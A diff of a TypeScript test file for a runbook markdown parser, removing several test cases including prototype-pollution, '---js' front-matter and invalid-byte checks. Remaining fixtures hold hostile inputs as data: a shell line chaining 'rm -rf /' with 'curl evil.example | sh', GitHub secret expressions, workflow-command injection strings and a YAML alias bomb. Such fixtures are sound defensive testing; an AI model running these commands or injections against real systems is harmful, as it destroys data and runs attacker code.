@@ -17,7 +17,6 @@ function fm(yaml: string, body = 'Text.\n'): string {
 
 const SKIPPED: readonly (readonly [kind: string, file: string, reason: RegExp, warns: boolean])[] = [
   ['an empty file', '', /no text/, true],
-  ['only front matter', fm('title: Only front matter', ''), /no text/, true],
   ['only white space', ' \n\t\r\n\u00a0\n', /no text/, true],
   ['an index page', '', /index page/, false],
   ['a draft', fm('title: A draft\ndraft: true'), /draft: true/, false],
@@ -32,13 +31,9 @@ const BOMB = `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from('bcdefghij')
 const SENT: readonly (readonly [kind: string, file: string, name: string, text?: string])[] = [
   ['a byte order mark', `\ufeff${fm('title: Bom and more')}`, 'Bom and more', 'Text.\n'],
   ['CRLF with front matter', '---\r\ntitle: Crlf\r\n---\r\n\r\nOne.\r\nTwo.\r\n', 'Crlf', 'One.\r\nTwo.\r\n'],
-  ['mixed line ends', '# Mixed\r\n\nOne.\rTwo.\n', 'Mixed'],
   ['U+FFFD that its author wrote', '# Replacement \ufffd\n', 'Replacement \ufffd'],
   ['exactly the size cap', `# Cap\n${'x'.repeat(1_048_576 - 6)}`, 'Cap'],
   ['an alias bomb', fm(`${BOMB}\ntitle: Bomb`), 'Bomb', 'Text.\n'],
-  ['__proto__', fm('__proto__:\n  title: Evil\ntitle: Proto'), 'Proto', 'Text.\n'],
-  ['entities in its heading', '# R&amp;D &lt;3 &#x1F525;\n', 'R&D <3 \u{1F525}'],
-  ['no title', '## Second\n\nText.\n', 'no title'],
   ['an expression', '# Expression\n\n${{ secrets.RUNBOOK_SYNC_TOKEN }} ${{ github.token }}\n', 'Expression'],
   ['a shell', '# Shell\n\n$(id) `id` ; rm -rf / && curl evil.example | sh\n', 'Shell'],
   ['commands', '# Commands\n\n::add-mask::pwned\n  ::stop-commands::pwned\n##[add-mask]pwned\n', 'Commands'],
@@ -61,7 +56,6 @@ const REFUSED: readonly (readonly [
   line: number | null
 ])[] = [
   ['UTF-16', Buffer.from('\ufeff# Wide\n', 'utf16le'), /UTF-16/, /Save it as UTF-8/, 1],
-  ['a byte 0xFF', Buffer.from('# Bytes\n\nText \xff.\n', 'latin1'), /not UTF-8/, /UTF-8/, 3],
   ['NUL', '# Nul\n\nText\0.\n', /NUL/, /UTF-8/, 3],
   [
     'one byte too many',
@@ -78,9 +72,7 @@ const REFUSED: readonly (readonly [
     null
   ],
   ['a function', fm('title: !!js/function "function () { process.exit(7) }"'), /YAML/, /tag/, 2],
-  ['---js', '---js\nmodule.exports = process.exit(7)\n---\nText.\n', /not YAML/, /./, 1],
-  ['a command in its error', fm('x: 1\n"::error::pwned": 1\n"::error::pwned": 2'), /YAML/, /Keep one/, 4],
-  ['a control character in its title', fm('title: "a\\u0007b"'), /control character/, /title/, null]
+  ['a command in its error', fm('x: 1\n"::error::pwned": 1\n"::error::pwned": 2'), /YAML/, /Keep one/, 4]
 ]
 
 const pathOf = (kind: string): string => `${FOLDER}/${kind === 'an index page' ? 'README' : kind}.md`
